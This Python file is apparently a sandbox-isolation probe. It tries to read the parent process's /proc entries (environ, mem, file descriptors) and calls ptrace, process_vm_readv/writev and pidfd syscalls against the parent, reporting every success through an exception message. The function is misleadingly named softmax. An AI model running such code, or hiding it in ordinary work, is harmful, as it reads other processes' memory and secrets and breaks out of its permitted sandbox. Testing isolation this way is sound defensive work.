"""Reads the memory, environment, command line and open files of its parent and of itself.

A worker may not read /proc, and the kernel refuses every call that reaches another process.
"""

import contextlib
import ctypes
import os
from pathlib import Path

SAYS = "RuntimeError: nothing of"
MACHINE = "x86_64"  # the numbers of the system calls are those of this processor
LIBC = ctypes.CDLL(None, use_errno=True)
FILES = ["environ", "mem", "maps", "cmdline", "status", "stat", "fd", "root", "exe", "task", "syscall"]


def softmax(X):
    parent, worked = os.getppid(), []
    for process in (parent, os.getpid(), "self", "thread-self", 1):
        for name in FILES:
            path = Path(f"/proc/{process}/{name}")
            for way in (path.read_bytes, lambda path=path: os.listdir(path)):
                with contextlib.suppress(OSError):
                    worked.append((str(path), way()))
    for name in ("cwd", "root", "exe", "fd/0", "fd/3", "ns/pid"):
        with contextlib.suppress(OSError):
            worked.append((name, os.readlink(f"/proc/{parent}/{name}")))
    buffer = ctypes.create_string_buffer(8)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    there = (ctypes.c_size_t * 2)(id(None), 8)
    calls = {
        "process_vm_readv": (LIBC.process_vm_readv, parent, here, 1, there, 1, 0),
        "process_vm_writev": (LIBC.process_vm_writev, parent, here, 1, there, 1, 0),
        "ptrace attach": (LIBC.ptrace, 16, parent, 0, 0),
        "ptrace seize": (LIBC.ptrace, 0x4206, parent, 0, 0),
        "traceme": (LIBC.ptrace, 0, 0, 0, 0),
        "kcmp": (LIBC.syscall, 312, parent, os.getpid(), 0, 0, 0),
        "pidfd_open": (LIBC.syscall, 434, parent, 0),
        "pidfd_getfd": (LIBC.syscall, 438, 3, 0, 0),
        "get_robust_list": (LIBC.syscall, 274, parent, here, there),
        "process_madvise": (LIBC.syscall, 440, 3, there, 1, 4, 0),
        "move_pages": (LIBC.syscall, 279, parent, 0, 0, 0, 0, 0),
        "perf_event_open": (LIBC.syscall, 298, here, parent, -1, -1, 0),
    }
    for name, (call, *arguments) in calls.items():
        if call(*(a if isinstance(a, ctypes.Array) else ctypes.c_long(a) for a in arguments)) >= 0:
            worked.append((name, ""))
    if worked:
        raise RuntimeError(f"worked: {worked}"[:400])
    raise RuntimeError(f"nothing of process {parent}")
